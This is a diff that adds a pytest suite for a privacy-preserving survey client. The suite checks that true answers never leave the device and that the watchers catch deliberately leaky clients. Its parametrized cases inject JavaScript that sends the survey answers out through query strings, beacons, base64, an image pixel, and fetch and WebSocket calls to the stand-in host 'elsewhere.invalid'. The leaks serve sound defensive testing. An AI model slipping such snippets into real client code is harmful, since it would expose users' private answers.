@@ -1,0 +1,161 @@
+"""No true answer leaves the device; each watcher is shown to catch a client that leaks one."""
+
+from collections.abc import Callable
+
+import pytest
+from collector import Collector, Relay
+from device import (
+    CANARIES,
+    SURVEY,
+    Device,
+    answer,
+    expect_state,
+    fill_in,
+    press,
+)
+from watchers import (
+    check_bodies,
+    check_network,
+    check_reports,
+    check_wire,
+    with_fixed_randomness,
+)
+
+MakeRelay = Callable[[Collector], Relay]
+#: Where the page has the answers that count in hand.
+REVIEW = "  const list = one('dl', review);"
+ANSWERS = "JSON.stringify(answers())"
+
+
+def leave(device: Device) -> None:
+    """Close all pages, and give what they send as they go the time to arrive."""
+    device.context.new_page()
+    for page in device.context.pages[:-1]:
+        page.close(run_before_unload=False)
+    device.context.pages[-1].wait_for_timeout(300)
+
+
+def test_network_carries_no_answer(
+    device: Device, collector: Collector, survey: str, relay: MakeRelay
+) -> None:
+    wire = relay(collector)
+    answer(device.visit(f"{wire.url}/s/{survey}"), CANARIES)
+    leave(device)
+    assert len(device.posted()) == 1
+    check_network(device, wire, survey)
+    check_bodies(device)
+
+
+@pytest.mark.parametrize(
+    ("name", "old", "new"),
+    [
+        ("form.js", REVIEW, f"fetch('/healthz?' + {ANSWERS});\n{REVIEW}"),
+        ("form.js", REVIEW, f"fetch('/s/x', {{method: 'POST', body: {ANSWERS}}});\n{REVIEW}"),
+        ("form.js", REVIEW, f"navigator.sendBeacon('/healthz', {ANSWERS});\n{REVIEW}"),
+        ("form.js", REVIEW, f"fetch('/healthz?a=' + btoa({ANSWERS}));\n{REVIEW}"),
+        ("form.js", REVIEW, "location.assign('?' + new URLSearchParams(answers()));\n" + REVIEW),
+        (
+            "form.js",
+            REVIEW,
+            f"addEventListener('pagehide', () => navigator.sendBeacon('/', {ANSWERS}));\n{REVIEW}",
+        ),
+        (
+            "submit.js",
+            "'Content-Type'",
+            "'X-Answer': document.querySelector('#debts--number').value, 'Content-Type'",
+        ),
+        (
+            "submit.js",
+            "body: report.text,",
+            "body: report.text + document.querySelector('#debts--number').value,",
+        ),
+    ],
+    ids=["query", "body", "beacon", "base64", "navigation", "farewell", "header", "after-report"],
+)
+def test_watcher_of_the_network_catches_a_leak(
+    new_device: Callable[..., Device],
+    serve_client: Callable[..., Collector],
+    relay: MakeRelay,
+    name: str,
+    old: str,
+    new: str,
+) -> None:
+    # form.reset() would hide answers from what leaks after it.
+    served = serve_client((name, old, new), ("form.js", "form.reset();", ""))
+    survey, wire, device = served.publish(SURVEY), relay(served), new_device()
+    page = device.visit(f"{wire.url}/s/{survey}")
+    expect_state(page, "ready")
+    fill_in(page, CANARIES)
+    page.get_by_role("button", name="Review my answers").click()
+    page.wait_for_timeout(100)
+    if page.locator("#send").is_visible():
+        press(page)
+        page.wait_for_timeout(300)
+    leave(device)
+    with pytest.raises(AssertionError, match=r"is in it|unexpected request|header"):
+        check_network(device, wire, survey)
+
+
+@pytest.mark.parametrize(
+    "leak",
+    [
+        f"new Image().src = '/pixel?' + {ANSWERS};",
+        f"fetch('https://elsewhere.invalid/?' + {ANSWERS}).catch(() => 0);",
+        f"new WebSocket('wss://elsewhere.invalid/?' + btoa({ANSWERS}));",
+    ],
+    ids=["image", "other host", "socket"],
+)
+def test_policy_stops_even_a_leaky_client(
+    device: Device, serve_client: Callable[..., Collector], relay: MakeRelay, leak: str
+) -> None:
+    served = serve_client(("form.js", REVIEW, f"try {{ {leak} }} catch {{}}\n{REVIEW}"))
+    survey, wire = served.publish(SURVEY), relay(served)
+    page = device.visit(f"{wire.url}/s/{survey}")
+    answer(page, CANARIES)
+    leave(device)
+    blocked = [line for line in device.console if "Content Security Policy" in line]
+    assert blocked
+    assert len(device.posted()) == 1
+    check_wire(wire, survey)
+    got_out = [one.url for one in device.requests if one.failure is None]
+    assert all(url.startswith((wire.url, "data:,")) for url in got_out)
+
+
+def test_body_has_five_keys_and_a_catch_for_a_sixth(
+    device: Device, serve_client: Callable[..., Collector]
+) -> None:
+    served = serve_client(("report.js", "...who, reports }", "...who, counted, reports }"))
+    answer(device.visit(served.page(served.publish(SURVEY))), CANARIES, "refused")
+    with pytest.raises(AssertionError):
+        check_bodies(device)
+
+
+def test_reports_are_drawn_by_the_channel_from_the_random_words(
+    device: Device, collector: Collector, survey: str
+) -> None:
+    with_fixed_randomness(device)
+    answer(device.visit(collector.page(survey)), CANARIES)
+    check_reports(device, collector.frozen(survey), CANARIES)
+
+
+@pytest.mark.parametrize(
+    ("name", "old", "new"),
+    [
+        ("randomizer.js", "return CHANNELS[channel.name].randomize(symbol, channel, words);",
+         "return symbol;"),
+        ("channels/window.js", "const draw = below(total(c), words);",
+         "const draw = Math.min(below(total(c), words), c.near - 1);"),
+        ("draw.js", "return word % total;", "return Math.floor(word / 4) % total;"),
+        ("encoders.js", "bernoulli(place % bottom, bottom, words)", "0"),
+    ],
+    ids=["no channel", "always the truth", "other words", "rounds down"],
+)  # fmt: skip
+def test_watcher_of_the_draw_catches_a_client_that_draws_otherwise(
+    device: Device, serve_client: Callable[..., Collector], name: str, old: str, new: str
+) -> None:
+    served = serve_client((name, old, new))
+    survey = served.publish(SURVEY)
+    with_fixed_randomness(device)
+    answer(device.visit(served.page(survey)), CANARIES)
+    with pytest.raises(AssertionError):
+        check_reports(device, served.frozen(survey), CANARIES)
